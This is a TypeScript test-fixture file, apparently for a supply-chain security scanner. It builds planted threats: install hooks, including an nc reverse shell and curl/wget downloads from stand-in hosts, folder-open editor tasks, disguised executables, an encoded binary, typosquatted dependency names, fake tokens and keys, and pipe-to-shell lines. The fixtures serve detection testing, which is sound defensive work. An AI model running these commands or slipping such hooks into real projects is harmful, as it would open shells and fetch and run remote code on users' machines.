import { joined, json, planted, type Planted } from "./sample";

function npm(scripts: Record<string, string>, dependencies = {}) {
  const manifest = { name: "tool", version: "1.0.0", scripts, dependencies };
  return { "package.json": json(manifest) };
}

function windowsProgram(): Buffer {
  const bytes = Buffer.alloc(256);
  bytes.write("MZ");
  bytes.writeUInt32LE(128, 60);
  bytes.write("PE\0\0", 128, "latin1");
  return bytes;
}

/** What runs when somebody installs the package or opens its folder. */
const HOOKS: Record<string, Record<string, string>> = {
  "a hook that downloads": npm({
    postinstall: "curl -s https://x.example.net/i -o i && node i",
  }),
  "a hook that runs code": npm({
    preinstall: "node -e \"require('./lib/a')\"",
  }),
  "a hook that opens a connection": npm({
    install: "nc 198.51.100.7 4444 -e /bin/sh",
  }),
  "a hook after folders": {
    "packages/inner/package.json": npm({
      prepare: "wget -q http://x.example.net/i",
    })["package.json"],
  },
  "setup.py that runs a command": {
    "setup.py":
      'import os\nfrom setuptools import setup\nos.system("whoami")\nsetup(name="tool")\n',
  },
  "setup.py with its own install step": {
    "setup.py":
      "from setuptools import setup\nfrom setuptools.command.install import install\nimport urllib.request\nclass I(install):\n    def run(self):\n        urllib.request.urlopen(URL)\nsetup(name='tool', cmdclass={'install': I})\n",
  },
  "a .pth file": { "lib/tool.pth": "import os; os.system('id')\n" },
  "an editor’s task": {
    ".vscode/tasks.json": json({
      tasks: [
        {
          command: "curl -s https://x.example.net/i",
          runOptions: { runOn: "folderOpen" },
        },
      ],
    }),
  },
  "a Git hook": { ".git/hooks/post-checkout": "#!/bin/sh\nid\n" },
  "a shell for npm": { ".npmrc": "script-shell=./lib/sh\n" },
};

const EXECUTABLES: Record<string, Record<string, string | Buffer>> = {
  "a Linux program as a picture": {
    "logo.png": Buffer.concat([
      Buffer.from("\x7fELF\x02\x01\x01", "latin1"),
      Buffer.alloc(64),
    ]),
  },
  "a Windows program": { "bin/tool": windowsProgram() },
  "a macOS program": {
    "tool.dat": Buffer.from("cffaedfe07000001030000000200000010000000", "hex"),
  },
  "a macOS program for two processors": {
    "tool.bin": Buffer.from("cafebabe00000002010000070000000300004000", "hex"),
  },
  "a shortcut": {
    "Manual.pdf.lnk": Buffer.from(
      "4c0000000114020000000000c000000000000046",
      "hex",
    ),
  },
};

/** A program that is encoded within a text. */
const ENCODED_PROGRAM = `const b = "${windowsProgram().toString("base64")}";\n`;

const LOOKALIKES: Record<string, Record<string, string>> = {
  "swapped letters on npm": npm({}, { lodahs: "^4.17.21" }),
  "a missing hyphen": npm({}, { crossenv: "^7.0.0" }),
  "a digit for a letter": npm({}, { l0dash: "^4.0.0", chalk: "^5.0.0" }),
  "a missing letter": npm({}, { expres: "^4.0.0" }),
  "swapped letters on PyPI": {
    "requirements.txt": "flask==3.0.0\nreqeusts>=2\n",
  },
  "in pyproject.toml": {
    "pyproject.toml":
      '[project]\nname = "tool"\ndependencies = ["pandsa>=2", "numpy"]\n',
  },
  "with extras": { "requirements-dev.txt": "tensorfow[and-cuda]==2.16\n" },
};

const SECRETS: Record<string, Record<string, string>> = {
  "a GitHub token": {
    ".env": joined(
      "TOKEN=ghp",
      "_",
      "k7Qz2LmN8vRt4XwY6bCd1FgH3jKp5sAe9UoT",
      "\n",
    ),
  },
  "a Slack token": {
    "config.yaml": joined(
      "slack: xoxb",
      "-210987654321-1098765432109-",
      "Zk3mQp8Rt2Vw6Xy1Bc4Df7Gh",
      "\n",
    ),
  },
  "a private key": {
    "deploy.pem": joined(
      "-----BEGIN RSA PRIVATE",
      " KEY-----\n",
      "MIIEowIBAAKCAQEAvK7Qz2LmN8vRt4XwY6bCd1FgH3jKp5sAe9UoTq0W7eZ2x\n".repeat(
        8,
      ),
      "-----END RSA PRIVATE",
      " KEY-----\n",
    ),
  },
  "a password in an address": {
    "src/db.js": joined(
      'const url = "https://svc:',
      "T9vk-x2Lq",
      '@api.acme-billing.com/v1";\n',
    ),
  },
  "a token whose author disables the rule": {
    "src/a.js": joined(
      "// secretlint-disable\nconst t = 'ghp",
      "_",
      "q8Rt2Vw6Xy1Bc4Df7GhZk3mJp5LsAe9UoTnM",
      "';\n",
    ),
  },
};

const wide = (text: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, "utf16le")]);

export const PLANTED_FILES: readonly Planted[] = [
  ...planted("install-hook", HOOKS),
  ...planted("executable", EXECUTABLES),
  ...planted("encoded-payload", {
    "an encoded program": { "a.js": ENCODED_PROGRAM },
  }),
  ...planted("lookalike-name", LOOKALIKES),
  ...planted("secret", SECRETS),
  ...planted("secret", {
    "a token in UTF-16": {
      "notes.txt": wide(SECRETS["a GitHub token"]![".env"]!),
    },
  }),
  ...planted("pipe-to-shell", {
    "a script in UTF-16": {
      "run.ps1": wide("iex (irm https://x.example.net/i)\n"),
    },
    "a zero byte in a script": {
      "run.sh": "#!/bin/sh\n# \0\ncurl -s https://x.example.net/i | sh\n",
    },
  }),
  ...planted("download-link", {
    "a program on a bare address": {
      "README.md": "# Tool\n\nGet http://198.51.100.7/setup.exe first.\n",
    },
  }),
];
